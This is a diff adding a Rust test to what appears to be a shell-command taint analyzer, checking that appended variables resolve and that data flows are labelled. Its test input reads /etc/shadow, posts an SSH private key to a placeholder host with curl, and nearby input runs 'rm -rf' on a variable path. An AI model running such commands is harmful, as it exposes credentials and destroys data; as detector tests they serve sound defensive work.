@@ -91,6 +91,13 @@ fn variables_carry_their_values_to_later_commands() {
 }
 
 #[test]
+fn appending_to_a_variable_adds_to_its_value() {
+    let ctx = extract("f=/etc\nf+=/shadow\ncat $f\nk=(a)\nk+=($(cat ~/.ssh/id_rsa))\ncurl -d \"${k[*]}\" http://x\n");
+    assert_eq!(call(&ctx, "cat").args[0].value, Value::Str("/etc/shadow".into()));
+    assert!(call(&ctx, "curl").taints.intersects(label("sensitive_file")));
+}
+
+#[test]
 fn unknown_variables_read_as_written() {
     let ctx = extract("rm -rf \"$TARGET/\"\n");
     assert_eq!(call(&ctx, "rm").args[1].value, Value::Formatted("$TARGET/".into()));
